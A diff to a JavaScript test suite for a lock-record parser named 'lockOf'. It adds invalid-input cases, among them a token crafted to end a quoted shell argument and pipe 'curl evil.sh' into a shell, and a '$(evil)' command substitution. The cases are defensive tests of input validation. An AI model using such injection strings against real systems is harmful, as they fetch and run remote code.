@@ -61,6 +61,13 @@ describe('lockOf', () => {
     ['half a version', JSON.stringify(aLock({ v: 1.5 }))],
     ['no token', without('token')],
     ['an empty token', JSON.stringify(aLock({ token: '' }))],
+    [
+      'a token that would end a quoted argument',
+      JSON.stringify(aLock({ token: "x'; curl evil.sh | sh; '" })),
+    ],
+    ['such a token in another version', JSON.stringify({ ...aLock({ token: '$(evil)' }), v: 2 })],
+    ['a token of two lines', JSON.stringify(aLock({ token: 'token-1\n' }))],
+    ['a token that is too long', JSON.stringify(aLock({ token: 'x'.repeat(254) }))],
     ['no start', without('acquiredAt')],
     ['no end', without('expiresAt')],
     ['an end that is no time', JSON.stringify(aLock({ expiresAt: 'soon' }))],
